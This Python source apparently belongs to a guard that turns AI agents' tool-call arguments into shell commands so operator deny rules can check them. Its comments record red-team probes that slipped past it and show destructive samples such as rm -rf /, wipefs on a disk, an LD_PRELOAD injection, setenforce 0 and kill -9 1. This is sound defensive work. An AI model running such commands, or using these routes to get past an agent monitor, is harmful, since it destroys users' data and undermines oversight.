        language = [v for key, v in spelled if key in _LANGUAGE_KEYS and isinstance(v, str)]
        own = runner.split("__")[-1]
        says = bool(language) or _CODE_RUNNER_WORD.search(own) is not None or any(rx.search(own) for rx, _ in _LANGUAGES)
        for key, v in spelled:
            if (key in _CODE_KEYS or _CODE_KEY.search(key) or (says and (key in _CODE_IF_LANGUAGE or _CELL_KEY.search(key)))
                    # (probe round 36, residuals38) a notebook's cell runner (execute_cell
                    # {"cell_source": ...}, {"source": ...}) runs its cell's source as the
                    # kernel's code; it was read as no code (shutil.rmtree(home) was AAAAD);
                    # a key naming the cell (cell_id, cell_index) is no code
                    or ("cell" in own.lower() and (key in _CODE_IF_LANGUAGE or _CELL_KEY.search(key))
                        and (_key_words(key) or ("",))[-1] not in _NAMING_WORDS)) \
                    and isinstance(v, str) and v.strip():
                hints = [*language, runner] if key in _CODE_ONLY_KEYS else [*language, runner, key]
                made = _code_commands(v, hints)
                out.extend(made)
                if codes is not None:
                    codes.update(made)
    program = next((v for key, v in spelled if key in _PROGRAM_KEYS and isinstance(v, str) and v.strip()), None)
    if program is None and runner:
        program = next((v for key, v in spelled if key in _RUNNER_PROGRAM_KEYS and isinstance(v, str) and v.strip()),
                       None)
    argv = next((v for key, v in spelled if key in _ARGV_KEYS and isinstance(v, (list, tuple)) and v), None)
    if argv is None and program is not None:
        argv = next((v for key, v in spelled if key in _PAIRED_ARGV_KEYS and isinstance(v, (list, tuple, str))
                     and (v.strip() if isinstance(v, str) else v)), None)
    paired = program is not None and argv is not None
    if program is not None and argv is None:
        line = _composed_line(program, spelled, cwd)
        if line is not None:
            out.append(line)   # (read beside the program alone, which is read below)
    if paired:
        if isinstance(argv, str):
            out.append(f"{program} {argv}")   # the list as one line: read as a shell would split it
        elif all(isinstance(w, str) for w in argv):
            out.append(shlex.join([program, *argv]))
        else:
            out.append("\x00unknown argv")
    fed = _fed_stdin(spelled, shellish) if shellish else None
    if fed is not None:
        # (probe round 51, tools52) a command given its standard input beside it
        # (mcp-server-commands' run_command {"command": "python3", "stdin": CODE}): the
        # command fed that text, as a here-document is (the text read as what reads it:
        # Python's code, psql's SQL, a shell's lines; not typed as shell lines of its own)
        out.append(fed[2])
    for n, (key, v) in enumerate(spelled):
        if fed is not None and (n == fed[0] or n == fed[1]):
            continue
        argv_key = key in _ARGV_KEYS
        typed = terminal and key in _TERMINAL_KEYS
        if typed and isinstance(v, (list, tuple)):
            # {"commands": ["cd /", "rm -rf ~"]}: each line typed
            lines = [w for w in v if isinstance(w, str) and w.strip()]
            out.extend(lines)
            if len(lines) > 1:
                # (probe round 51, tools52) ...into one shell, one after another: "cd /"
                # then "rm -rf *" deletes /, the lines together too
                out.append("\n".join(lines))
            if not all(isinstance(w, (str, Mapping)) for w in v):
                out.append("\x00unknown argv")
        elif typed and isinstance(v, str) and v.strip():
            out.append(v)
        elif (n in shellish and not (browser and "script" in key)) or argv_key:
            if isinstance(v, str) and v.strip() and not argv_key:
                if not (paired and v is program):
                    out.append(v)   # (a program paired with its arguments is read with them)
            elif isinstance(v, (list, tuple)) and v:
                words = [w for w in v]
                if not argv_key and len(words) <= _ARGS_ITEMS and any(isinstance(w, (list, tuple)) for w in words) \
                        and all(isinstance(w, str) or isinstance(w, (list, tuple)) and w
                                and all(isinstance(x, str) for x in w) for w in words):
                    # (probe round 32, redteam32b) a list of commands each an argv
                    # ({"command": ["git status", ["rm", "-rf", "~"]]}): the lines they are
                    words = [w if isinstance(w, str) else shlex.join(w) for w in words]
                    out.append("\n".join(words))
                    continue
                if not all(isinstance(w, str) for w in words):
                    out.append("\x00unknown argv")
                elif argv_key and words[0] in ("-c", "-lc", "-ic", "-ec"):
                    out.append(shlex.join(["sh", *words]))   # {"args": ["-c", "..."]}: a shell's
                elif not argv_key and len(words) > 1 and any(c in words[0].strip() for c in " \t\n;&|"):
                    # (probe round 32, mcp32) a script's lines as a list ({"script": ["cd /",
                    # "rm -rf *"]}: no program is named "cd /"): the lines, run one after another
                    out.append("\n".join(words))
                elif not argv_key or _looks_like_program(words[0]) or (
                        argv_tool and not paired and _PROGRAM_WORD.fullmatch(words[0]) is not None):
                    # ((probe round 33, tools33) a shell tool's argv under args/argv is its
                    # command, whatever program it names: ["nice", "rm", "-rf", "/"], ["wipefs",
                    # "-a", "/dev/sda"], ["shutdown", "now"] were read as no command at all)
                    # an argv (["rm", "-rf", "/"]): the command it is, each word quoted
                    out.append(shlex.join(words))
                    if not argv_key and len(words) > 1 and (_ASSIGNMENT_WORD.match(words[0]) or (
                            not words[1].startswith("-") and not _runs_its_words(words[0])
                            and any(_command_line_like(w) and not (words[k][:1] == "-" and len(words[k]) > 1)
                                    for k, w in enumerate(words[1:])))):
                        # (probe round 32, redteam32b) or lines after a first one that has
                        # no space (["pwd", "cd ..", "rm -rf *"], ["x=/", "rm -rf $x"]): a
                        # tool that runs a list's lines runs those; the worse reading holds.
                        # A command line that is an option's value (["git", "commit", "-m",
                        # "cd /; rm -rf *"]) is the argv's data: no line is an option alone
                        # (redteam32c)
                        out.append("\n".join(words))
        if isinstance(v, Mapping):
            if key in _ENV_KEYS:
                continue   # (an environment's names are no code keys: _env_exports reads it)
            _collect_shell_args(v, out, depth + 1, browser, runner, codes, terminal, cwd, argv_tool)
        elif isinstance(v, (list, tuple)) and v and (terminal or isinstance(v[0], Mapping)):
            # (probe round 51, tools52: another tool's too, run_steps {"steps": [{"command":
            # "git push --force"}]}, a batch's {"calls": [...]}: no command was read, AAAAD)
            if len(v) > _ARGS_ITEMS:
                out.append("\x00unknown argv")
            for item in v[:_ARGS_ITEMS]:   # {"steps": [{"run": "..."}]}
                if isinstance(item, Mapping):
                    _collect_shell_args(item, out, depth + 1, browser, runner, codes, terminal, cwd, argv_tool)


_STDIN_KEYS = frozenset({"stdin", "input", "stdin_text", "stdintext", "stdin_data", "stdindata", "stdin_input"})
_STDIN_TAG = "GUARDIAN_STDIN_END"


def _fed_stdin(spelled: list[tuple[str, Any]], shellish: set[int]) -> tuple[int, int, str] | None:
    """(the command's index, the input's index, COMMAND <<'TAG' INPUT TAG) when a shell
    command and its standard input are given side by side, else None."""
    cmd = next((i for i in shellish if isinstance(spelled[i][1], str) and spelled[i][1].strip()
                and spelled[i][0] not in _STDIN_KEYS), None)
    if cmd is None:
        return None
    given = next((i for i, (k, v) in enumerate(spelled) if k in _STDIN_KEYS and isinstance(v, str) and v.strip()), None)
    if given is None:
        return None
    text = spelled[given][1]
    if _STDIN_TAG in text or "\n" in spelled[cmd][1].strip():
        return None   # (a command of many lines: whose input? both read as before)
    return cmd, given, f"{spelled[cmd][1].strip()} <<'{_STDIN_TAG}'\n{text.rstrip(chr(10))}\n{_STDIN_TAG}"


# a tool that types into a terminal (send_keys, type_text, write_input, tmux): not a shell's command
_TYPES_KEYS = re.compile(r"key|type|input|write|tmux|screen|stdin|paste", re.I)
# a shell tool's arguments that change neither what runs nor where (only_read_only_shell)
_SHELL_HARMLESS_KEYS = frozenset({"timeout", "timeout_ms", "timeoutms", "timeout_seconds", "description",
                                  "encoding"})
# a shell tool's own working directory, and its environment
_SHELL_CWD_KEYS = frozenset({"cwd", "workdir", "working_dir", "working_directory", "workingdirectory", "workingdir",
                             "work_dir", "cwd_path", "chdir", "cd", "directory", "dir", "run_in", "in_dir",
                             # (Gemini CLI's run_shell_command names it dir_path)
                             "dir_path", "dirpath"})


# (probe round 31, residuals31) a Bash call's other arguments that may be where it runs
# under another name ({"command": "rm -rf *", "path": "/"}): not the command, its words for
# a person or its environment
_BASH_NOT_DIR_KEYS = frozenset({"command", "cmd", "commandline", "restart", "run_in_background", "runinbackground",
                                "background", "shell", "stdin", "input",
                                # (probe round 31, differential4) words for a person: Codex's
                                # justification, a reason or title beside the command
                                "justification", "reason", "explanation", "title", "summary", "comment",
                                "note", "notes",
                                # (the shell program that runs it: _bash_with_its_env)
                                "executable", "interpreter", "shell_path", "shellpath", "program"}) | _SHELL_HARMLESS_KEYS
# (probe round 35, benign40: or a relative path that climbs, "../..": {"command": "rm -rf *",
# "path": "../.."} to a shell tool an operator rule names was judged where the call runs only,
# while the Bash tool's reading, its path made absolute, denied it)
_DIR_LIKE = re.compile(r"[~/$`]|\.\.(?:/|\Z)")


def _bash_in_its_dir(cmd: str, args: Mapping[str, Any], cwd: str) -> str:
    """(probe round 31, residuals31) As _bash_in_dir; and a string argument under any
    other name that is an absolute or ~ path, or an expansion ({"path": "/"}, {"folder":
    "~"}, {"root": "/etc"}), may be where another harness runs the command: the command
    is also judged as run there, ``CMD; (cd DIR && CMD)``, so such an argument never
    makes the call more permissive than if it were its directory."""
    return _also_where_named(_bash_in_dir(cmd, args, cwd), cmd, args, cwd)


def _also_where_named(out: str, cmd: str, args: Mapping[str, Any], cwd: str) -> str:
    """``out`` and, for each path-valued argument beside the command (not its cwd, words
    or environment), ``( cd DIR && CMD )``: _bash_in_its_dir's second half, shared by
    another tool's shell arguments (probe round 32: {"command": "rm -rf *", "path": "~"}
    on a tool an operator rule names was judged where the call runs only)."""
    extra: list[str] = []
    for k, v in args.items():
        if not isinstance(k, str) or not isinstance(v, str):
            continue
        spelled = _key_spelling(k)
        if spelled in _SHELL_CWD_KEYS or spelled in _BASH_NOT_DIR_KEYS or spelled in _ENV_KEYS:
            continue
        v = v.strip()
        if v[:1] == "%" or not v.isascii() or v[:5].casefold() == "file:":
            v = (spelling.tool_path_spelling(v) or v).strip()   # (%USERPROFILE%, file:///: round 44)
        if not v or not _DIR_LIKE.match(v) or "\n" in v or len(v) > 4096:
            continue
        if re.search(r"[$`]", v):
            extra.append("/")
        elif normalize_path(v, cwd=cwd) != cwd:
            extra.append(v)
    for v in list(dict.fromkeys(extra))[:2]:
        out = f"{out}\n( cd {dialects.sh_path(v)} && {cmd}\n)"
    return out


def _bash_in_dir(cmd: str, args: Mapping[str, Any], cwd: str) -> str:
    """The Bash tool's command where it runs (probe round 30, published4: Codex's
    CVE-2025-59532, a working directory taken from the model's output): a directory
    argument beside the command ({"command": "rm -rf *", "cwd": "/"}) is where a harness
    that honours it runs the command, so it is read as ``cd DIR && COMMAND``, as another
    agent's shell tool's is; a directory not given as text is taken for the worst, /. The
    call's own working directory, or none, leaves the command as sent."""
    for k, v in args.items():
        if isinstance(k, str) and _key_spelling(k) in _SHELL_CWD_KEYS:
            if isinstance(v, str):
                v = v.strip()
                if re.search(r"[$`]", v):
                    # (probe round 30, redteam30b: {"cwd": "$HOME"} was a literal folder
                    # here, ~ the home: a harness or shell that expands it may run anywhere)
                    return f"cd / && {cmd}"
                # (probe round 44, tools44) read as a tool's path is: "%USERPROFILE%", a
                # file: URI, a fullwidth spelling of the home name it, not a folder here
                v = (spelling.tool_path_spelling(v) or v).strip()
                if not v or normalize_path(v, cwd=cwd) == cwd:
                    return cmd
                return f"cd {dialects.sh_path(v)} && {cmd}"
            return cmd if v is None else f"cd / && {cmd}"
    return cmd


# the shells a Bash tool's "shell" argument may name and still run its command as Bash does
_PLAIN_SHELLS = frozenset({"bash", "sh", "dash", "zsh", "ksh", "mksh", "ash", "bash.exe", "sh.exe"})
_SHELL_PROGRAM_KEYS = frozenset({"shell", "executable", "interpreter", "shell_path", "shellpath", "program"})
# (probe round 51, tools52) the shells a shell tool's "shell" argument names beside its command
_NAMED_SHELLS = _PLAIN_SHELLS | frozenset({"fish", "powershell", "pwsh", "powershell.exe", "pwsh.exe", "cmd",
                                           "cmd.exe", "gitbash", "git-bash", "git_bash", "wsl", "wsl.exe", "zsh.exe"})


def _windows_shell_named(args: Mapping[str, Any]) -> str | None:
    """"ps" or "cmd" when a shell tool's "shell" argument names PowerShell or cmd.exe."""
    v = args.get("shell")
    if not _names_a_shell(v):
        return None
    name = v.strip().replace("\\", "/").rsplit("/", 1)[-1].casefold()
    return "ps" if name.startswith(("powershell", "pwsh")) else "cmd" if name.startswith("cmd") else \
        "fish" if name == "fish" else None


def _names_a_shell(v: Any) -> bool:
    """A shell tool's "shell" value naming a shell by its name or in a system directory."""
    if not isinstance(v, str) or len(v) > 256:
        return False
    path = v.strip().replace("\\", "/")
    return path.rsplit("/", 1)[-1].casefold() in _NAMED_SHELLS and ("/" not in path or _SYSTEM_SHELL_DIR.match(path)
                                                                   is not None)
# where a system's shells are installed (a shell named by a path elsewhere is some file)
_SYSTEM_SHELL_DIR = re.compile(r"(?i)(?:/usr(?:/local)?/bin/|/bin/|/opt/homebrew/bin/|/home/linuxbrew/\.linuxbrew/bin/"
                               r"|/nix/var/nix/profiles/default/bin/|/run/current-system/sw/bin/"
                               r"|[a-z]:/program files(?: \(x86\))?/git/(?:usr/)?bin/|[a-z]:/windows/system32/)[^/]+\Z")


def _bash_with_its_env(cmd: str, args: Mapping[str, Any]) -> str:
    """(probe round 31) The Bash tool's command with what its other arguments change about
    how it runs: an environment argument ({"env": {"LD_PRELOAD": "/tmp/x.so"}}) is the
    exports before it, as another shell tool's is (a name that is not a variable's: not
    sure, a run-time export); a shell program that is not a plain shell ({"shell":
    "/tmp/x"}, "powershell") runs it as PROGRAM -c COMMAND. A plain ls with either was
    read-only (DESIGN: an assignment in front of a command makes it not read-only)."""
    for k, v in args.items():
        if isinstance(k, str) and _key_spelling(k) in _SHELL_PROGRAM_KEYS and isinstance(v, str) and v.strip():
            try:   # (a Windows path is one word: C:\\Program Files\\Git\\bin\\bash.exe)
                words = [v.strip()] if re.match(r"[A-Za-z]:\\", v.strip()) else shlex.split(v)
            except ValueError:
                words = []
            path = words[0].replace("\\", "/") if words else ""
            first = path.rsplit("/", 1)[-1].lower()
            if "/" in path and not _SYSTEM_SHELL_DIR.match(path):
                first = ""   # ({"shell": "./sh"}, "/tmp/bash": a file named so, not the shell; openai/codex#22171)
            if not (first in _PLAIN_SHELLS and all(w.startswith("-") and "c" not in w[1:] for w in words[1:])):
                prog = " ".join(shlex.quote(w) for w in words) if words else "\"$SHELL_PROGRAM\""
                cmd = f"{prog} -c {shlex.quote(cmd)}"
    exports = _env_exports(args)
    if exports:
        lines = [e for e in exports if not e.startswith("\x00")]
        if len(lines) < len(exports):
            lines.append('export "$UNREADABLE_ENV"')
        cmd = "\n".join(lines) + "\n" + cmd
    return cmd


_ENV_KEYS = frozenset({"env", "envs", "environ", "environment", "env_vars", "envvars", "environment_variables",
                       "environmentvariables", "extra_env", "extraenv", "env_overrides"})
_ENV_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")


def _env_exports(args: Mapping[str, Any]) -> list[str]:
    """A shell tool's environment argument as the exports that set it ({"env":
    {"LD_PRELOAD": "/tmp/x.so"}} is export LD_PRELOAD=/tmp/x.so before its command): every
    variable that is not harmless in front of a command (a loader's, a shell's startup
    file, PATH, GIT_*...), judged as Bash judges an assignment prefix."""
    out: list[str] = []
    for k, v in args.items():
        if not (isinstance(k, str) and _key_spelling(k) in _ENV_KEYS):
            continue
        pairs: list[tuple[Any, Any]] = []
        if isinstance(v, Mapping):
            pairs = list(v.items())
        elif isinstance(v, (list, tuple)):
            for item in v:
                if isinstance(item, str):
                    pairs.append(tuple(item.split("=", 1)) if "=" in item else (item, ""))
                elif isinstance(item, Mapping) and "name" in item:
                    pairs.append((item.get("name"), item.get("value", "")))
                else:
                    pairs.append(("\x00", ""))
        elif isinstance(v, str) and v.strip():
            pairs = [tuple(w.split("=", 1)) if "=" in w else (w, "") for w in v.split()]
        elif v is not None and not isinstance(v, (str, bool)):
            pairs = [("\x00", "")]
        for name, value in pairs[:_ARGS_ITEMS]:
            if not isinstance(name, str) or not _ENV_NAME.fullmatch(name):
                out.append("\x00unknown env")
            elif not harmless_env(name, value if isinstance(value, str) else str(value)):
                out.append("export " + shlex.quote(f"{name}={value}"))
    return out


# a patch's headers: the files it writes
_PATCH_KEYS = frozenset({"patch", "patches", "diff", "diffs", "unified_diff", "unifieddiff", "patch_text", "patchtext",
                         "diff_text", "difftext", "patch_content", "patchcontent"})
_LISTS_NAMES = re.compile(r"list|tree|(?:^|_)ls(?:$|_)|(?:^|_)dirs?(?:$|_)", re.I)
_GLOB_KEYS = frozenset({"include", "includes", "glob", "globs", "pattern", "patterns", "include_pattern",
                        "file_pattern", "filepattern", "path_pattern"})
_PATCH_TOOL = re.compile(r"patch|apply|diff", re.I)
_PATCH_ENVELOPE = re.compile(r"(?im)^[ \t]*\*\*\*[ \t]*begin[ \t]*patch")


def _patch_targets(text: str) -> list[str]:
    out = patch_targets(text, _ARGS_ITEMS)
    if len(out) > _ARGS_ITEMS:
        out[_ARGS_ITEMS:] = [_UNREADABLE_PATH]
    return out


# a tool's own name (its last part) that says it erases or rewrites a disk
_DISK_WRITER_TOOL = re.compile(r"(?i)(?:^|[_\-.]|(?<=[a-z])(?=[A-Z]))(?:dd|mkfs\w*|mke2fs|mkswap|format\w*|wipe\w*|fdisk|"
                               r"sfdisk|gdisk|cfdisk|parted|partition\w*|repartition\w*|shred\w*|blkdiscard|"
                               r"erase\w*|flash\w*|burn\w*|zap\w*|zero\w*|destroy\w*|overwrite\w*|write_?image\w*|"
                               r"restore_?image\w*)(?:$|[_\-.A-Z0-9])")


# (list_partitions, get_disk_info, format_status: they read)
_DISK_READER_TOOL = re.compile(r"(?i)(?:^|[_\-.]|(?<=[a-z])(?=[A-Z]))(?:list|get|show|read|info|describe|status|"
                               r"inspect|check|scan|query|stat|stats|usage|health|smart|search|find|view)")
# what a copier reads from (dd's if=, a source): not what it writes
_DEVICE_INPUT_KEYS = frozenset({"if", "in", "input", "input_file", "inputfile", "infile", "source", "src", "from"})


def _raw_device_arg(args: Any, depth: int = 0) -> str | None:
    """The first disk, partition or memory device among a call's string values (at most
    four levels deep, 64 values a level), as a path or a file: URI; not one it reads from."""
    if depth > 4:
        return None
    if isinstance(args, Mapping):
        values = [v for k, v in list(args.items())[:64]
                  if not (isinstance(k, str) and _key_spelling(k) in _DEVICE_INPUT_KEYS)]
    else:
        values = list(args)[:64] if isinstance(args, (list, tuple)) else []
    for v in values:
        if isinstance(v, str):
            t = v.strip()
            if t[:8].lower() == "file:///":
                t = unquote(t[7:])
            if t.startswith("/dev/") and _raw_device(posixpath.normpath(t)):
                return posixpath.normpath(t)
        elif isinstance(v, (Mapping, list, tuple)):
            found = _raw_device_arg(v, depth + 1)
            if found:
                return found
    return None


# a tool named for a change of permissions or owner (chmod, set_permissions, change_owner)
_PERMISSION_TOOL = re.compile(r"(?i)(?:^|[_\-.]|(?<=[a-z])(?=[A-Z]))(?:(chmod|set_?perm\w*|change_?perm\w*|"
                              r"change_?mode|set_?mode)|(chown|chgrp|set_?owner\w*|change_?owner\w*|set_?group|"
                              r"change_?group))(?:$|[_\-.A-Z])")
_MODE_KEYS = frozenset({"mode", "permissions", "permission", "perms", "perm", "chmod", "octal", "file_mode",
                        "filemode"})
_OWNER_KEYS = frozenset({"owner", "user", "uid", "username", "group", "gid", "chown"})
_RECURSIVE_KEYS = frozenset({"recursive", "recurse", "r", "-r", "deep", "recursively"})


# (probe round 33, tools33) a git tool that prints what a commit holds (git_show, git_diff,
# git_cat_file, git_blame, git_log, git_grep, git_archive): its REV:PATH arguments
_GIT_REV_READER = re.compile(r"(?i)git.*(?:show|cat|diff|log|blame|grep|archive|blob|file_content|read)|"
                             r"(?:show|cat|blob|read).*(?:git|commit|revision|rev)")
# (probe round 33, tools33) a tool named for moving or renaming files (move_file,
# rename_file, mcp__fs__mv): what it is given under any name but its destination's moves
# away, as mv's operands do
_MOVE_TOOL_NAME = re.compile(r"(?i)move|rename|relocate|(?:^|_|__|\.)mv(?:$|_)")
_MOVE_DEST_KEYS = frozenset({"destination", "dest", "dst", "to", "target", "targetpath", "newpath", "newname",
                             "destinationpath", "destpath", "destfile", "destinationfile", "output", "outputpath",
                             "into", "todir", "targetdir", "destdir", "destinationdir", "newfilepath", "newlocation"})


# (probe round 52, tools53) a code host's tool that commits through its API (GitHub's
# push_files, create_or_update_file, delete_file; GitLab's create_commit; Gitea's
# create_file/update_file; a ref moved or a pull request merged): the commit and the push of
# it that git would make, for the operator's Bash(git commit|push) rules (fail closed: a
# deny rule on git push meets a push of those files); the words of its own name
_CODE_HOST_SERVER = re.compile(r"(?i)(?:^|[_-])(?:gh|gitee)(?:$|[_-])|github|gitlab|gitea|forgejo|codeberg|bitbucket|"
                               r"azure_?devops|ado\b|gogs|gerrit|sourcehut")
_API_COMMIT_VERBS = frozenset({"push", "create", "update", "delete", "upload", "put", "upsert", "write",
                               "remove", "edit", "replace", "rename", "move", "merge", "accept"})
_API_COMMIT_NOUNS = frozenset({"file", "files", "commit", "commits", "contents", "content", "ref", "branch", "refs",
                               "pull", "request", "pr", "mr"})
_API_BRANCH_KEYS = ("branch", "branch_name", "ref", "target_branch", "base", "head")


def _api_commit_lines(tool: str, args: Any) -> list[str]:
    if tool.count("__") < 2 or not tool.startswith("mcp__") or len(tool) > 256 \
            or not (type(args) is dict or isinstance(args, Mapping)):
        return []
    server = tool.split("__")[1]
    if _CODE_HOST_SERVER.search(server) is None and not (
            dialects.canon(server) in dialects.GATEWAYS and any(k in args for k in ("owner", "repo", "project_id"))):
        return []
    words = set(_op_words(tool.rsplit("__", 1)[-1][:128]))
    if not (words & _API_COMMIT_VERBS and words & _API_COMMIT_NOUNS or "commit" in words and words & {"file", "files"}) \
            or "create" in words and words & {"branch", "pull", "request", "pr", "mr"} \
            or words & {"pull", "request", "pr", "mr"} and not words & {"merge", "accept"}:
        return []   # (a new branch or pull request commits nothing; merging one does)
    branch = next((v.strip() for k in _API_BRANCH_KEYS if isinstance(v := args.get(k), str) and v.strip()
                   and not v.strip().startswith("-")), None)
    line = ["git", "push"]
    if args.get("force") is True or args.get("force") == "true":
        line.append("--force")
    line.append("origin")
    if branch is not None:
        line.append(branch.removeprefix("refs/").removeprefix("heads/"))
    out = [shlex.join(line)]
    if words & {"file", "files", "commit", "commits", "contents", "content"}:
        out.append("git commit")
    return out


def _move_commands(tool: str, args: Any, normalise: Any) -> list[str]:
    """The mv line a move or rename tool's call stands for: every path it is given under
    a name that is not its destination's is a source (normalised by the caller's
    tool_path: ~, file://, a Windows spelling)."""
    if not (type(args) is dict or isinstance(args, Mapping)) \
            or _name_search(_MOVE_TOOL_NAME, tool.split("__")[-1][:128]) is None:
        return []
    sources: list[str] = []
    dest = None
    for k, v in args.items():
        if not isinstance(k, str):
            continue
        spelled = re.sub(r"[^a-z0-9]", "", _key_spelling(k))
        values = [v] if isinstance(v, str) else [x for x in v[:16] if isinstance(x, str)] \
            if isinstance(v, (list, tuple)) else []
        for x in values:
            if not x.strip() or len(x) > 4096:
                continue
            if spelled in _MOVE_DEST_KEYS:
                dest = dest or x
            else:
                sources.extend(normalise(x)[:4])   # (every spelling it may open: $HOME is the home)
    if not sources:
        return []
    return [shlex.join(["mv", "--", *sources[:16], *(normalise(dest)[:1] if dest else ["/tmp/moved"])])]


def _permission_commands(m: re.Match[str], args: Any, paths: Sequence[str]) -> list[str]:
    """The chmod or chown lines a permission tool's call stands for, one per path."""
    if not isinstance(args, Mapping) or not paths:
        return []
    spelled = {_key_spelling(k): v for k, v in args.items() if isinstance(k, str)}
    recursive = any(spelled.get(k) not in (None, False, 0, "", "false", "no") for k in _RECURSIVE_KEYS)
    keys = _MODE_KEYS if m.group(1) else _OWNER_KEYS
    value = next((str(spelled[k]) for k in keys if isinstance(spelled.get(k), (str, int)) and str(spelled[k]).strip()),
                 None)
    if value is None:
        return []
    program = "chmod" if m.group(1) else "chown"
    return [shlex.join([program, *(["-R"] if recursive else []), value, "--", p]) for p in paths[:16]]


_POWER_WORDS = frozenset({"shutdown", "reboot", "poweroff", "halt"})
# the words beside them that still name this machine (shutdown_system, power_off, restart_computer)
_POWER_PLAIN = frozenset({"shutdown", "shut", "down", "reboot", "poweroff", "power", "off", "halt", "restart", "system",
                          "machine", "computer", "host", "os", "now", "the", "this", "local", "localhost"})
_KILL_WORDS = frozenset({"kill", "terminate", "signal", "stop"})
_PID_KEYS = frozenset({"pid", "pids", "process_id", "processid", "process"})
_POWER_HOST_KEYS = frozenset({"host", "hostname", "server", "target", "machine", "node", "instance", "address", "ip"})
_LOCAL_HOSTS = frozenset({"localhost", "127.0.0.1", "::1", "local", "self", "this"})


@lru_cache(maxsize=4096)
def _tool_words(tool: str) -> tuple[str, ...]:
    return _key_words(tool.split("__")[-1][:128])


def _machine_commands(tool: str, args: Any) -> list[str]:
    """The deny list's command a tool's name stands for: shutdown or reboot of this machine
    (mcp__x__shutdown, power_off, restart_computer; not a named host, instance or
    container), kill of PID 1 or -1 (mcp__x__kill_process {"pid": 1})."""
    words = _tool_words(tool)
    if not words or not (type(args) is dict or isinstance(args, Mapping)):
        return []
    spelled = {_key_spelling(k): v for k, v in args.items() if isinstance(k, str)}
    w = set(words)
    if w <= _POWER_PLAIN and (w & _POWER_WORDS or {"power", "off"} <= w or ("restart" in w and w & {
            "system", "machine", "computer", "os"}) or {"shut", "down"} <= w):
        remote = [v for k, v in spelled.items() if k in _POWER_HOST_KEYS and isinstance(v, str) and v.strip()
                  and v.strip().casefold() not in _LOCAL_HOSTS]
        if not remote:
            return ["reboot" if w & {"reboot", "restart"} else "shutdown now"]
    if w & _KILL_WORDS and ("process" in w or "pid" in w or "kill" in w):
        out = []
        for k, v in spelled.items():
            if k in _PID_KEYS:
                for pid in (v if isinstance(v, (list, tuple)) else [v])[:16]:
                    if isinstance(pid, (int, str)) and not isinstance(pid, bool) and str(pid).strip() in ("1", "-1"):
                        out.append(f"kill -9 {str(pid).strip()}")
        return out
    return []


_ASSIGNMENT_WORD = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")
_LINE_BUILTINS = frozenset({"cd", "pushd", "popd", "export", "unset", "alias", "eval", "exec", "source", ".",
                            "set", "shopt", "trap", "builtin", "command"})


def _command_line_like(word: str) -> bool:
    """A list's word that reads as a command line of its own: a known program or a
    builtin that changes the shell, then its words (cd .., rm -rf *), or an assignment."""
    parts = re.split(r"[\s;&|]", word.strip(), maxsplit=1)
    first = parts[0]
    return len(parts) > 1 and (first in _LINE_BUILTINS or first == "true" or _looks_like_program(first)
                               or _ASSIGNMENT_WORD.match(first) is not None)


def _runs_its_words(word: str) -> bool:
    """A program whose words are code or a command it runs (bash -c, env, sudo, xargs):
    its argv reading already reads them so."""
    name = posixpath.basename(word)
    return name in destructive.SHELLS or name in destructive.INTERPRETERS or name in (
        "env", "sudo", "doas", "xargs", "timeout", "nice", "nohup", "time", "watch", "exec", "command", "builtin",
        "eval", "ssh", "su", "runuser", "stdbuf", "setsid", "nix-shell", "docker", "podman", "kubectl")


# (probe round 33, tools33) a tool named for starting a process, and a word that can name one
_ARGV_RUNNER_TOOL = re.compile(r"(?i)^(?:exec|execute|spawn|run|launch|subprocess|popen|system)$|"
                               r"(?:exec|spawn|run|launch|start)_?(?:process|program|binary|cmd|command|file)|"
                               r"subprocess|popen")
_PROGRAM_WORD = re.compile(r"[\w.+/~-]{1,255}")


def _looks_like_program(word: str) -> bool:
    name = posixpath.basename(word)
    return "/" in word or name in destructive.INTERPRETERS or name in destructive.SHELLS or \
        name in destructive.DOWNLOADERS or name in ("rm", "cat", "cp", "mv", "dd", "chmod", "chown", "env", "sudo",
                                                    "git", "nc", "ncat", "socat", "ssh", "scp", "find", "xargs") or \
        name.lower() in destructive.SECURITY_PROGRAMS   # (probe round 33, residuals34: ["setenforce", "0"])


# what a part the rules do not name, read-only alone, may still do in the whole line: a
# secret picked out of the environment, git run in another repository, a socket opened
_RO_PART_RISKS = frozenset({"secret_env", "git_elsewhere", "network_connection"})


def _no_windows_project(base: str) -> bool:
    """A directory on a Windows drive that is no project (_NO_WINDOWS_PROJECT)."""
    return (base[2:3] in ("/", "") or base.startswith(("/mnt/", "/cygdrive/"))) and (
        _NO_WINDOWS_PROJECT.fullmatch(base) is not None or _NO_WINDOWS_PROJECT_UNDER.match(base) is not None)


def _dirs(cwd: Any, project: Any) -> tuple[str | None, str | None, str | None, str]:
    """(cwd, base, work_dir, home) of a request, normalised."""
    # (probe round 40, winpaths40) a Windows working directory (C:\Users\dev\proj) is
    # the canonical /c/Users/dev/proj, as its files are (posix_spelling)
    cwd = normalize_path(posix_spelling(cwd) if windows_absolute(cwd) else cwd, cwd="/") if cwd else None
    # relative rules and the working directory are the session's project, as first
    # seen: a call that reports another cwd does not move them
    base = normalize_path(project, cwd="/") if isinstance(project, str) and project.startswith("/") else \
        normalize_path(posix_spelling(project), cwd="/") if isinstance(project, str) and windows_absolute(project) else cwd
    # Writes "inside the working directory" need a working directory that is a
    # project: with cwd / or /etc, everything would be inside it.
    work_dir = base if base and base not in _NOT_A_WORKING_DIR and not (
        HOME_DIR.fullmatch(base) or _NO_PROJECT_UNDER.match(base) or _no_windows_project(base)) else None
    # the home an agent working there has (/home/NAME, /Users/NAME, else /root), as
    # the Bash analysis takes it; a deny/ask rule on ~ covers every home anyway
    return cwd, base, work_dir, home_of(cwd)


_NPX_NAMES = frozenset({"npx", "pnpx", "npm", "pnpm"})


def _analysis_words(a: BashAnalysis, cwd: str | None = None, home: str | None = None) -> list[tuple[str, ...]]:
    """The word lists a rule may meet in an analysed command: each part's words as run
    and as written (a program named by a path also by its name), and a job's own words."""
    found: dict[tuple[str, ...], None] = {}
    moved: dict[int, tuple[str | None, ...]] = {}
    exported: tuple[tuple[str, str], ...] = a.exported
    if a.moved:
        for mc, where in zip(a.moved, a.moved_dirs):
            # (the working directory too: the command's words as written meet the rules anyway)
            moved[id(mc)] = tuple(dict.fromkeys((*moved.get(id(mc), (None,)), *[d for d in where if d])))
    for c in a.commands:
        found[c.argv] = None
        found[c.written] = None
        if c.written and "/" in c.written[0]:
            found[(posixpath.basename(c.written[0]),) + tuple(c.written[1:])] = None
        job = same_job_words(c.argv)
        if job is not None:
            found[job] = None
